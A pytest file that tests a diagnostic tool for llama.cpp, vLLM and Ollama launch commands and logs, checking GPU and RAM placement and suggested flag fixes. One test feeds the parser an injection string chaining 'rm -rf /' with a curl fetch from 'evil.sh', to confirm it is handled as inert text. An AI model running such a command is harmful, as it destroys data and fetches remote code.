"""Pasted commands and logs, diagnosed: the parsed placement and the corrected flags of each.

Formats follow llama.cpp's tools/server README (flag names, ``-ngl`` counting the output layer, the
removed ``--draft-max``), vLLM's ``vllm serve`` engine arguments and Ollama's FAQ/Modelfile docs.
Each case checks what lands on each GPU and in RAM and the exact flags the fix changes.
"""

from __future__ import annotations

import shlex

import pytest

from catalog.facts import load_facts
from core.diagnose.command import Diagnosis, diagnose
from core.diagnose.flags import LaunchFlags, ParseFailure, model_words, parse_command
from core.diagnose.log import log_settings, read_log
from core.diagnose.place import kv_bytes
from core.estimate import default_quant
from core.fit import Verdict
from core.models import GIB, Engine
from core.weights import weights

CATALOG = load_facts()


def run(paste: str, model: str, gpu: str, count: int = 1, ram_gb: float = 64) -> Diagnosis:
    flags = parse_command(paste)
    assert isinstance(flags, LaunchFlags), flags
    return run_flags(flags, model, gpu, count, ram_gb)


def run_flags(flags: LaunchFlags, model: str, gpu: str, count: int = 1, ram_gb: float = 64) -> Diagnosis:
    spec = CATALOG.model(model)
    device = CATALOG.gpu(gpu)
    assert spec is not None and device is not None
    engine = Engine.VLLM if flags.engine == "vllm" else Engine.LLAMA_CPP
    quant = CATALOG.quant(flags.quant or default_quant(spec, engine))
    assert quant is not None
    return diagnose(flags, spec, quant, CATALOG.size(spec.id, quant.id), device, count, round(ram_gb * 1e9))


def device(d: Diagnosis, name: str, fixed: bool = False):
    outcome = d.fixed if fixed else d.outcome
    assert outcome is not None
    return next(x for x in outcome.devices if x.name == name)


def changed(d: Diagnosis) -> dict[str, str | None]:
    return {c.flag: c.value for c in d.changes}


def corrected_flags(d: Diagnosis) -> list[str]:
    return shlex.split(d.corrected[0]) if d.corrected else []


def codes(d: Diagnosis) -> set[str]:
    return {p.code for p in d.problems}


def conserved(d: Diagnosis, model: str, paste: str) -> None:
    """Rows add up: the weights on all devices are the whole file, the KV on all devices the whole cache."""
    flags = parse_command(paste)
    assert isinstance(flags, LaunchFlags)
    spec = CATALOG.model(model)
    assert spec is not None
    quant = CATALOG.quant(d.quant)
    assert quant is not None
    w = weights(spec, quant, CATALOG.size(spec.id, quant.id))
    placed = sum(x.weights_bytes for x in d.outcome.devices)
    assert abs(placed - w.total_bytes) <= 8  # per-tensor rounding only


# --- llama.cpp --------------------------------------------------------------------------------


def test_context_beyond_training_goes_back_to_the_trained_context():
    paste = "llama-server -m /models/Qwen3-30B-A3B-Q4_K_M.gguf -ngl 99 -c 131072 --fit off"
    d = run(paste, "qwen3-30b-a3b", "rtx-4090")
    assert d.outcome.verdict is Verdict.NO_FIT and d.outcome.over == ("GPU 0",)
    assert device(d, "GPU 0").layers == 48 and device(d, "RAM").kv_bytes == 0
    assert {"oom", "ctx_over_trained"} <= codes(d)
    assert changed(d) == {"-c": "40960"}
    assert corrected_flags(d)[corrected_flags(d).index("-c") + 1] == "40960"
    assert d.fixed is not None and d.fixed.verdict in (Verdict.FITS, Verdict.TIGHT)
    conserved(d, "qwen3-30b-a3b", paste)


def test_too_few_layers_on_a_gpu_with_room_gets_all_layers():
    d = run("llama-server -m Qwen3-30B-A3B-Q4_K_M.gguf -ngl 20 -c 16384", "qwen3-30b-a3b", "rtx-4090")
    # -ngl 20 = the output layer and the last 19 repeating layers (llama.cpp counts n_layer + 1)
    assert device(d, "GPU 0").layers == 19
    assert d.outcome.verdict is Verdict.OFFLOAD and device(d, "RAM").kv_bytes > 0
    assert changed(d) == {"-ngl": "999"}
    assert d.fixed is not None and d.fixed.speed is not None and d.outcome.speed is not None
    assert d.fixed.speed.decode_tokens_per_s > 2 * d.outcome.speed.decode_tokens_per_s


def test_experts_in_ram_that_would_fit_on_the_gpu_come_back():
    d = run("llama-server -m Qwen3-30B-A3B-Q4_K_M.gguf -ngl 999 --n-cpu-moe 48 -c 16384", "qwen3-30b-a3b", "rtx-4090")
    assert d.outcome.verdict is Verdict.OFFLOAD
    assert device(d, "RAM").weights_bytes > 14 * GIB  # all routed experts
    assert changed(d) == {"--n-cpu-moe": "0"}
    assert device(d, "RAM", fixed=True).weights_bytes < GIB


def test_moe_that_overflows_gets_n_cpu_moe():
    paste = "llama-server -hf unsloth/GLM-4.5-Air-GGUF:Q4_K_M -ngl 999 -c 32768 -fa on"
    d = run(paste, "glm-4.5-air", "rtx-4090", ram_gb=128)
    assert d.outcome.over == ("GPU 0",)
    n = int(changed(d)["--n-cpu-moe"] or 0)
    assert 30 <= n <= 46 and set(changed(d)) == {"--n-cpu-moe"}
    assert d.fixed is not None and d.fixed.verdict is Verdict.OFFLOAD
    assert device(d, "GPU 0", fixed=True).spare_bytes > 0
    assert "--n-cpu-moe" in corrected_flags(d)
    conserved(d, "glm-4.5-air", paste)


def test_moe_that_needs_more_ram_than_there_is_gets_no_flag_fix():
    d = run("llama-server -hf unsloth/GLM-4.5-Air-GGUF:Q4_K_M -ngl 999 -c 32768", "glm-4.5-air", "rtx-4090", ram_gb=32)
    assert "no_fix" in codes(d) and d.changes == () and d.corrected == ()


def test_explicit_ctx_zero_reads_the_full_context_and_is_cut():
    paste = "llama-server -hf ggml-org/gpt-oss-120b-GGUF -c 0 -ngl 99 --fit off"
    d = run(paste, "gpt-oss-120b", "rtx-4090", ram_gb=128)
    assert d.context == 131072 and "ctx_from_model" in codes(d)
    assert changed(d)["-c"] is not None and int(changed(d)["-c"] or 0) < 131072
    assert "--n-cpu-moe" in changed(d)
    assert d.fixed is not None and not d.fixed.over


def test_cpu_moe_with_room_for_experts_on_a_5090():
    d = run("llama-server -hf ggml-org/gpt-oss-20b-GGUF -ngl 999 --cpu-moe -c 32768", "gpt-oss-20b", "rtx-5090")
    assert d.outcome.verdict is Verdict.OFFLOAD
    assert changed(d) == {"--n-cpu-moe": "0", "--cpu-moe": None}
    assert "--cpu-moe" not in corrected_flags(d)


def test_override_tensor_experts_to_cpu_is_matched_against_tensor_names():
    d = run('llama-server -m gpt-oss-20b-mxfp4.gguf -ot ".ffn_.*_exps.=CPU" -ngl 99 -c 8192', "gpt-oss-20b", "rtx-4090")
    assert device(d, "RAM").weights_bytes > 8 * GIB  # every routed expert of 24 layers
    assert changed(d) == {"--n-cpu-moe": "0", "-ot": None}
    assert "-ot" not in corrected_flags(d)


def test_override_tensor_of_some_layers_only():
    paste = r'llama-server -m gpt-oss-20b-mxfp4.gguf -ngl 99 -c 8192 -ot "blk\.([0-9])\.ffn_.*_exps\.=CPU"'
    d = run(paste, "gpt-oss-20b", "rtx-4090")
    spec = CATALOG.model("gpt-oss-20b")
    assert spec is not None
    quant = CATALOG.quant("MXFP4")
    assert quant is not None
    experts = weights(spec, quant, CATALOG.size(spec.id, "MXFP4")).experts_bytes
    share = (
        device(d, "RAM").weights_bytes - weights(spec, quant, CATALOG.size(spec.id, "MXFP4")).embed_bytes
    ) / experts
    assert share == pytest.approx(10 / 24, abs=0.01)  # layers 0-9 of 24


def test_q8_model_with_context_from_model_on_an_8gb_card():
    d = run(
        "./llama-server -m llama-3.1-8b-instruct-q8_0.gguf -ngl 99 --fit off",
        "llama-3.1-8b-instruct",
        "rtx-4060-ti-8gb",
    )
    assert d.context == 131072 and "ctx_from_model" in codes(d)
    assert changed(d)["-c"] == "8192" and "-ngl" in changed(d)
    assert d.fixed is not None and not d.fixed.over and d.fixed.speed is not None


def test_a_command_that_fits_is_left_alone():
    d = run(
        "llama-server -m Meta-Llama-3.1-8B-Instruct-Q4_K_M.gguf -ngl 99 -c 8192",
        "llama-3.1-8b-instruct",
        "rtx-4060-ti-8gb",
    )
    assert d.outcome.verdict in (Verdict.FITS, Verdict.TIGHT) and d.changes == () and d.corrected == ()
    assert d.outcome.speed is not None and d.outcome.speed.decode_tokens_per_s > 20


def test_quantized_v_cache_without_flash_attention():
    paste = "llama-server -m Meta-Llama-3.1-8B-Instruct-Q4_K_M.gguf -ngl 99 -c 8192 -ctk q8_0 -ctv q8_0 -fa off"
    d = run(paste, "llama-3.1-8b-instruct", "rtx-4090")
    assert "v_quant_needs_fa" in codes(d)
    assert changed(d) == {"-fa": "on"}
    flags = corrected_flags(d)
    assert flags[flags.index("-fa") + 1] == "on" and flags.count("-fa") == 1


def test_quantized_kv_halves_the_cache():
    base = run("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl 99 -c 32768", "qwen3-8b", "rtx-4090")
    q8 = run("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl 99 -c 32768 -ctk q8_0 -ctv q8_0 -fa on", "qwen3-8b", "rtx-4090")
    assert device(q8, "GPU 0").kv_bytes == pytest.approx(device(base, "GPU 0").kv_bytes * 34 / 64, rel=0.001)


def test_mixed_k_and_v_cache_types():
    d = run("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl 99 -c 32768 -ctk q8_0 -ctv f16 -fa on", "qwen3-8b", "rtx-4090")
    spec = CATALOG.model("qwen3-8b")
    assert spec is not None
    f16 = device(run("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl 99 -c 32768", "qwen3-8b", "rtx-4090"), "GPU 0").kv_bytes
    assert device(d, "GPU 0").kv_bytes == pytest.approx(f16 * (34 / 32 + 2) / 4, rel=0.001)


def test_tensor_split_three_to_one():
    d = run("llama-server -m Qwen3-32B-Q4_K_M.gguf -ngl 99 -c 16384 -ts 3,1", "qwen3-32b", "rtx-3090", count=2)
    # 65 offloaded layers (64 + output) by cumulative split 0.75: layers 0-48 on GPU 0
    assert device(d, "GPU 0").layers == 49 and device(d, "GPU 1").layers == 15
    assert device(d, "GPU 0").weights_bytes > 2.5 * device(d, "GPU 1").weights_bytes


def test_even_split_over_two_gpus():
    d = run("llama-server -m Qwen3-32B-Q4_K_M.gguf -ngl 99 -c 32768 -ts 1,1", "qwen3-32b", "rtx-3090", count=2)
    assert device(d, "GPU 0").layers == 33 and device(d, "GPU 1").layers == 31
    assert not d.outcome.over and d.changes == ()


def test_split_onto_one_gpu_overflows_and_is_spread():
    d = run("llama-server -m Qwen3-32B-Q8_0.gguf -ngl 99 -c 16384 -ts 1,0", "qwen3-32b", "rtx-3090", count=2)
    assert d.outcome.over == ("GPU 0",) and device(d, "GPU 1").total_bytes == 0
    assert changed(d) == {"-ts": "1,1"}
    assert d.fixed is not None and not d.fixed.over


def test_visible_devices_limit_the_gpus():
    paste = "CUDA_VISIBLE_DEVICES=0 llama-server -m Qwen3-32B-Q4_K_M.gguf -ngl 99 -c 32768"
    d = run(paste, "qwen3-32b", "rtx-3090", count=2)
    assert d.gpu_count == 1 and any(a.code == "visible_devices" for a in d.assumptions)
    assert corrected_flags(d)[:1] == ["CUDA_VISIBLE_DEVICES=0"] or d.corrected == ()


def test_llama_cli_with_conversation_flag():
    d = run(
        "llama-cli -m models/Mistral-Nemo-Instruct-2407-Q6_K.gguf -ngl 41 -c 16384 -cnv",
        "mistral-nemo-instruct-2407",
        "rtx-4090",
    )
    assert device(d, "GPU 0").layers == 40 and d.unknown_flags == () and d.changes == ()


def test_windows_caret_continuation_and_backslash_paths():
    paste = "llama-server.exe ^\n  -m C:\\models\\Qwen3-8B-Q4_K_M.gguf ^\n  -ngl 99 ^\n  -c 32768"
    flags = parse_command(paste)
    assert isinstance(flags, LaunchFlags)
    assert flags.quant == "Q4_K_M" and flags.context == 32768 and flags.gpu_layers == 99
    assert model_words(flags) == "Qwen3 8B"


def test_bash_continuation_with_long_flag_names():
    paste = (
        "./build/bin/llama-server \\\n  --model Qwen3-30B-A3B-Q4_K_M.gguf \\\n  --n-gpu-layers 999 \\\n"
        "  --ctx-size 65536 --cache-type-k q8_0 --cache-type-v q8_0 --flash-attn on"
    )
    d = run(paste, "qwen3-30b-a3b", "rtx-3090")
    assert d.cache_k == "q8_0" and d.context == 65536 and "ctx_over_trained" in codes(d)


def test_removed_draft_max_is_renamed():
    paste = "llama-server -m Qwen3-32B-Q4_K_M.gguf -md Qwen3-0.6B-Q8_0.gguf --draft-max 16 -ngl 99 -c 8192"
    d = run(paste, "qwen3-32b", "rtx-4090")
    assert "removed_flag" in codes(d)
    flags = corrected_flags(d)
    assert "--draft-max" not in flags and flags[flags.index("--spec-draft-n-max") + 1] == "16"


def test_unknown_flags_are_listed_not_guessed():
    d = run("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl 99 -c 8192 --turbo 3 --magic", "qwen3-8b", "rtx-4090")
    assert d.unknown_flags == ("--turbo", "--magic") and d.changes == ()


def test_shell_metacharacters_are_only_text():
    flags = parse_command("llama-server -m x.gguf; rm -rf / $(curl evil.sh)")
    assert isinstance(flags, LaunchFlags) and "-rf" in flags.unknown and flags.model_ref == "x.gguf;"


@pytest.mark.parametrize(
    ("paste", "reason"),
    [
        ('llama-server -m "unclosed.gguf -ngl 99', "quotes"),
        ("llama-server " + "-x " * 400, "too_many_tokens"),
        ("llama-server " + "a" * 9000, "too_long"),
        ("llama-server -ngl 99 -c 8192", "no_model"),
        ("hello, can you help me?", "no_command"),
    ],
)
def test_unreadable_pastes(paste, reason):
    failure = parse_command(paste)
    assert isinstance(failure, ParseFailure) and failure.reason == reason


def test_a_pattern_no_linear_engine_runs_is_refused_not_run():
    d = run('llama-server -m gpt-oss-20b-mxfp4.gguf -ngl 99 -c 8192 -ot "(blk)\\.\\1=CPU"', "gpt-oss-20b", "rtx-4090")
    assert "bad_pattern" in codes(d)


def test_ngl_all_and_bare_fa():
    flags = parse_command("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl all -fa -c 4096")
    assert isinstance(flags, LaunchFlags)
    assert flags.gpu_layers == 999 and flags.flash_attn == "on" and flags.context == 4096


def test_auto_fit_cuts_the_context_then_offloads_experts():
    d = run("llama-server -m Qwen3-30B-A3B-Q4_K_M.gguf", "qwen3-30b-a3b", "rtx-3060-12gb")
    assert any(a.code == "auto_fit" for a in d.assumptions)
    assert d.context == 4096 and "fit_cuts_ctx" in codes(d)
    assert d.outcome.verdict is Verdict.OFFLOAD and device(d, "RAM").weights_bytes > 4 * GIB
    assert device(d, "GPU 0").spare_bytes > 0 and d.changes == ()


def test_no_kv_offload_keeps_the_cache_in_ram():
    d = run("llama-server -m Qwen3-8B-Q4_K_M.gguf -ngl 99 -c 32768 -nkvo", "qwen3-8b", "rtx-4060-ti-8gb")
    spec = CATALOG.model("qwen3-8b")
    assert spec is not None
    assert device(d, "GPU 0").kv_bytes == 0 and device(d, "RAM").kv_bytes > 4 * GIB


def test_cpu_moe_on_a_dense_model():
    d = run(
        "llama-server -m Meta-Llama-3.1-8B-Instruct-Q4_K_M.gguf -ngl 99 -c 8192 --n-cpu-moe 10",
        "llama-3.1-8b-instruct",
        "rtx-4090",
    )
    assert "cpu_moe_dense" in codes(d) and device(d, "RAM").weights_bytes < GIB


def test_kv_bytes_follow_the_cache_types():
    from core.diagnose.place import Settings

    spec = CATALOG.model("qwen3-8b")
    assert spec is not None
    f16 = kv_bytes(spec, Settings(context=8192, gpu_layers=999))
    q4 = kv_bytes(spec, Settings(context=8192, gpu_layers=999, cache_k="q4_0", cache_v="q4_0"))
    assert q4 == pytest.approx(f16 * 18 / 64, rel=0.001)


# --- vLLM ---------------------------------------------------------------------------------------


def test_vllm_awq_context_too_long_for_the_kv_cache():
    d = run("vllm serve Qwen/Qwen3-32B-AWQ --max-model-len 32768", "qwen3-32b", "rtx-3090")
    assert d.quant == "AWQ" and "vllm_kv_short" in codes(d)
    assert d.outcome.kv_tokens is not None and 4096 < d.outcome.kv_tokens < 32768
    assert changed(d) == {"--max-model-len": str(d.outcome.kv_tokens // 1024 * 1024)}


def test_vllm_without_max_model_len_gets_fp8_kv():
    d = run("vllm serve Qwen/Qwen3-8B", "qwen3-8b", "rtx-4090")
    assert {"vllm_ctx_from_model", "vllm_kv_short"} <= codes(d)
    assert changed(d) == {"--kv-cache-dtype": "fp8"}
    assert d.fixed is not None and not d.fixed.over and (d.fixed.kv_tokens or 0) >= 40960


def test_vllm_that_fits():
    d = run("vllm serve Qwen/Qwen3-8B --max-model-len 16384", "qwen3-8b", "rtx-4090")
    assert not d.outcome.over and d.changes == () and (d.outcome.kv_tokens or 0) > 16384
    gpu = device(d, "GPU 0")
    assert gpu.total_bytes == gpu.usable_bytes  # vLLM fills the rest with KV blocks
    assert d.outcome.speed is not None


def test_vllm_bf16_weights_too_big_for_two_3090s():
    d = run(
        "vllm serve Qwen/Qwen3-32B --tensor-parallel-size 2 --max-model-len 16384", "qwen3-32b", "rtx-3090", count=2
    )
    assert "vllm_weights_oom" in codes(d) and "vllm_needs_quant" in codes(d)
    assert len([x for x in d.outcome.devices if x.name.startswith("GPU")]) == 2


def test_vllm_tp_must_divide_the_heads():
    paste = "vllm serve meta-llama/Llama-3.1-70B-Instruct --tensor-parallel-size 3 --max-model-len 8192"
    d = run(paste, "llama-3.1-70b-instruct", "a100-80gb-sxm", count=4)
    assert "tp_heads" in codes(d)


def test_vllm_tp_larger_than_the_gpus():
    d = run("vllm serve Qwen/Qwen3-8B --tensor-parallel-size 2 --max-model-len 8192", "qwen3-8b", "rtx-4090")
    assert "tp_more_than_gpus" in codes(d) and changed(d) == {"--tensor-parallel-size": "1"}
    assert "-tp" not in corrected_flags(d) and corrected_flags(d).count("--tensor-parallel-size") == 1


def test_vllm_api_server_module_form():
    paste = (
        "python -m vllm.entrypoints.openai.api_server --model Qwen/Qwen3-8B --max-model-len 8192 "
        "--gpu-memory-utilization 0.95"
    )
    flags = parse_command(paste)
    assert isinstance(flags, LaunchFlags) and flags.engine == "vllm" and flags.gpu_memory_utilization == 0.95
    d = run_flags(flags, "qwen3-8b", "rtx-4090")
    assert device(d, "GPU 0").usable_bytes == round(CATALOG.gpu("rtx-4090").memory_bytes * 0.95)  # type: ignore[union-attr]


def test_vllm_fp8_kv_and_full_context_fits():
    d = run("vllm serve Qwen/Qwen3-8B --kv-cache-dtype fp8 --max-model-len 40960", "qwen3-8b", "rtx-4090")
    assert d.cache_k == "fp8" and not d.outcome.over and d.changes == ()


# --- Ollama -----------------------------------------------------------------------------------


def test_ollama_run_offloads_whole_layers():
    d = run("ollama run qwen3:30b-a3b", "qwen3-30b-a3b", "rtx-3060-12gb")
    assert d.engine == "ollama" and d.context == 4096 and d.quant == "Q4_K_M"
    assert 20 < device(d, "GPU 0").layers < 48 and d.outcome.verdict is Verdict.OFFLOAD
    assert any(a.code == "ollama_ctx_default" for a in d.assumptions)


def test_ollama_small_model_fits():
    d = run("ollama run llama3.1:8b", "llama-3.1-8b-instruct", "rtx-4090")
    assert d.outcome.verdict is Verdict.FITS and device(d, "GPU 0").layers == 32


def test_modelfile_with_num_ctx():
    d = run("FROM qwen3:32b\nPARAMETER num_ctx 32768\n", "qwen3-32b", "rtx-4090")
    assert d.context == 32768 and d.engine == "ollama"
    assert not d.outcome.over


def test_ollama_kv_cache_type_with_flash_attention():
    paste = "OLLAMA_FLASH_ATTENTION=1 OLLAMA_KV_CACHE_TYPE=q8_0 ollama run qwen3:8b"
    d = run(paste, "qwen3-8b", "rtx-4090")
    assert d.cache_k == "q8_0" and "ollama_kv_needs_fa" not in codes(d)


def test_ollama_kv_cache_type_without_flash_attention_is_ignored():
    d = run("OLLAMA_KV_CACHE_TYPE=q8_0 ollama run qwen3:8b", "qwen3-8b", "rtx-4090")
    assert d.cache_k == "f16" and "ollama_kv_needs_fa" in codes(d)


def test_ollama_hf_tag_names_the_quant():
    flags = parse_command("ollama run hf.co/unsloth/Qwen3-8B-GGUF:Q8_0")
    assert isinstance(flags, LaunchFlags) and flags.quant == "Q8_0" and model_words(flags) == "Qwen3-8B"


def test_ollama_context_too_big_gets_the_env_fix():
    d = run("FROM qwen3:32b\nPARAMETER num_ctx 40960\nPARAMETER num_gpu 99\n", "qwen3-32b", "rtx-4090")
    assert d.outcome.over == ("GPU 0",)
    assert changed(d) == {"OLLAMA_KV_CACHE_TYPE": "q8_0", "OLLAMA_FLASH_ATTENTION": "1"} or "num_gpu" in changed(d)
    assert d.corrected and any("ollama" in line or line.startswith("FROM") for line in d.corrected)


# --- logs -------------------------------------------------------------------------------------

LLAMA_OOM_LOG = """\
ggml_cuda_init: found 1 CUDA devices:
  Device 0: NVIDIA GeForce RTX 4090, compute capability 8.9, VMM: yes
llama_model_load_from_file_impl: using device CUDA0 (NVIDIA GeForce RTX 4090) - 23008 MiB free
llama_model_loader: loaded meta data with 35 key-value pairs and 579 tensors from /models/Qwen3-30B-A3B-Q4_K_M.gguf (version GGUF V3 (latest))
llama_model_loader: - kv   2:                               general.name str              = Qwen3 30B A3B
print_info: file type   = Q4_K - Medium
print_info: n_layer          = 48
load_tensors: offloaded 49/49 layers to GPU
load_tensors:        CUDA0 model buffer size = 17366.56 MiB
load_tensors:   CPU_Mapped model buffer size =   166.92 MiB
llama_context: n_ctx         = 131072
ggml_backend_cuda_buffer_type_alloc_buffer: allocating 12288.00 MiB on device 0: cudaMalloc failed: out of memory
alloc_tensor_range: failed to allocate CUDA0 buffer of size 12884901888
llama_init_from_model: failed to initialize the context: failed to allocate buffer for kv cache
"""


def test_llama_oom_log():
    facts = read_log(LLAMA_OOM_LOG)
    assert facts.engine == "llama.cpp" and facts.device_names == ("NVIDIA GeForce RTX 4090",)
    assert facts.quant == "Q4_K_M" and facts.context == 131072 and facts.layers_offloaded == (49, 49)
    assert facts.failed_device == "CUDA0" and facts.failed_bytes == 12884901888
    assert facts.buffers[0].model_mib == pytest.approx(17366.56)
    flags = log_settings(facts)
    assert flags is not None
    d = run_flags(flags, "qwen3-30b-a3b", "rtx-4090")
    assert d.outcome.over == ("GPU 0",) and device(d, "GPU 0").kv_bytes == 12 * GIB
    assert changed(d) == {"-c": "40960"}


VLLM_KV_LOG = """\
INFO 07-12 10:01:02 [core.py:69] Initializing a V1 LLM engine (v0.9.2) with config: model='Qwen/Qwen3-8B', speculative_config=None, tokenizer='Qwen/Qwen3-8B', dtype=torch.bfloat16, max_seq_len=40960, tensor_parallel_size=1, quantization=None
INFO 07-12 10:01:30 [gpu_model_runner.py:1770] Model loading took 15.27 GiB and 5.1 seconds
ERROR 07-12 10:01:41 [core.py:586] ValueError: To serve at least one request with the models's max seq len (40960), (5.62 GiB KV cache is needed, which is larger than the available KV cache memory (3.10 GiB). Based on the available memory, the estimated maximum model length is 22576. Try increasing `gpu_memory_utilization` or decreasing `max_model_len` when initializing the engine.
"""


def test_vllm_kv_log():
    facts = read_log(VLLM_KV_LOG)
    assert facts.engine == "vllm" and facts.model_name == "Qwen/Qwen3-8B" and facts.context == 40960
    assert facts.kv_needed_bytes == round(5.62 * GIB) and facts.estimated_max_len == 22576
    flags = log_settings(facts)
    assert flags is not None and flags.engine == "vllm" and flags.context == 40960
    d = run_flags(flags, "qwen3-8b", "rtx-4090")
    assert "vllm_kv_short" in codes(d) and "--kv-cache-dtype" in changed(d)


VLLM_TORCH_OOM = """\
(EngineCore_0 pid=123) INFO model='Qwen/Qwen3-32B', max_seq_len=40960, tensor_parallel_size=1, quantization=None
torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 270.00 MiB. GPU 0 has a total capacity of 23.55 GiB of which 20.06 MiB is free. Including non-PyTorch memory, this process has 23.52 GiB memory in use.
"""


def test_vllm_torch_oom_log():
    facts = read_log(VLLM_TORCH_OOM)
    assert facts.out_of_memory and facts.device_total_gib == 23.55
    flags = log_settings(facts)
    assert flags is not None
    d = run_flags(flags, "qwen3-32b", "rtx-4090")
    assert "vllm_weights_oom" in codes(d)


OLLAMA_LOG = """\
time=2025-07-01T10:00:00.000Z level=INFO source=server.go:135 msg="system memory" total="31.2 GiB" free="25.0 GiB"
time=2025-07-01T10:00:00.100Z level=INFO source=server.go:175 msg=offload library=cuda layers.requested=-1 layers.model=49 layers.offload=30 layers.split="" memory.available="[11.1 GiB]" memory.required.full="19.9 GiB"
time=2025-07-01T10:00:00.200Z level=INFO source=server.go:438 msg="starting llama server" cmd="/usr/bin/ollama runner --model /root/.ollama/models/blobs/sha256-abc --ctx-size 8192 --batch-size 512 --n-gpu-layers 30"
"""


def test_ollama_log():
    facts = read_log(OLLAMA_LOG)
    assert facts.engine == "ollama" and facts.layers_offloaded == (30, 49) and facts.context == 8192


def test_auto_fit_offload_that_a_q8_cache_brings_onto_the_gpu():
    d = run("llama-server -m Qwen3-32B-Q4_K_M.gguf -c 32768", "qwen3-32b", "rtx-4090")
    assert d.outcome.verdict is Verdict.OFFLOAD and device(d, "RAM").weights_bytes > 2 * GIB
    assert changed(d) == {"-ctk": "q8_0", "-ctv": "q8_0"}
    assert d.fixed is not None and d.fixed.verdict in (Verdict.FITS, Verdict.TIGHT)
    assert device(d, "RAM", fixed=True).weights_bytes < GIB


def test_ollama_modelfile_fix_keeps_the_modelfile_and_sets_the_server_environment():
    d = run("FROM qwen3:32b\nPARAMETER num_ctx 32768\n", "qwen3-32b", "rtx-4090")
    assert changed(d) == {"OLLAMA_KV_CACHE_TYPE": "q8_0", "OLLAMA_FLASH_ATTENTION": "1"}
    assert d.corrected == (
        "OLLAMA_KV_CACHE_TYPE=q8_0 OLLAMA_FLASH_ATTENTION=1 ollama serve",
        "FROM qwen3:32b",
        "PARAMETER num_ctx 32768",
    )


def test_vllm_cpu_offload_moves_weights_to_ram():
    base = run("vllm serve Qwen/Qwen3-8B --max-model-len 8192", "qwen3-8b", "rtx-4060-ti-16gb")
    off = run("vllm serve Qwen/Qwen3-8B --max-model-len 8192 --cpu-offload-gb 4", "qwen3-8b", "rtx-4060-ti-16gb")
    assert device(base, "GPU 0").weights_bytes - device(off, "GPU 0").weights_bytes == 4_000_000_000
    assert device(off, "RAM").weights_bytes == 4_000_000_000
    assert (off.outcome.kv_tokens or 0) > (base.outcome.kv_tokens or 0)
